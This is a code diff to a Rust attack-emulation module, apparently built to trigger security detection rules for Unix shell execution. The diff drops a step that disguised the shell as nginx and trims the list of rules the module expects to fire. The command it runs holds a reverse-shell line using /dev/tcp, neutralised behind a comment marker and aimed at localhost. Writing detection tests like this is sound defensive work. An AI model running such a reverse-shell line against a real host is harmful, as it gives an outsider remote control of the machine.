@@ -13,17 +13,11 @@ pub(crate) const EMULATION: Emulation = Emulation {
     technique: "T1059.004",
     technique_v18: None,
     needs: &[],
-    rules: &[
-        "Shell command opens a network device path",
-        "Reverse Shell from Web Server",
-        "Web Server Spawned Shell",
-    ],
+    rules: &["Shell command opens a network device path"],
     act,
 };
 
 fn act(stage: &Stage) -> Result<(), Failure> {
-    let server = stage.disguise("sh", "nginx")?;
     // The interesting part is a comment: it shows on the command line and does nothing.
-    let script = "sh -c 'true # bash -i >& /dev/tcp/127.0.0.1/9 0>&1'; true";
-    stage.run(Command::new(server).args(["-c", script]))
+    stage.run(Command::new("/bin/sh").args(["-c", "true # bash -i >& /dev/tcp/127.0.0.1/9 0>&1"]))
 }
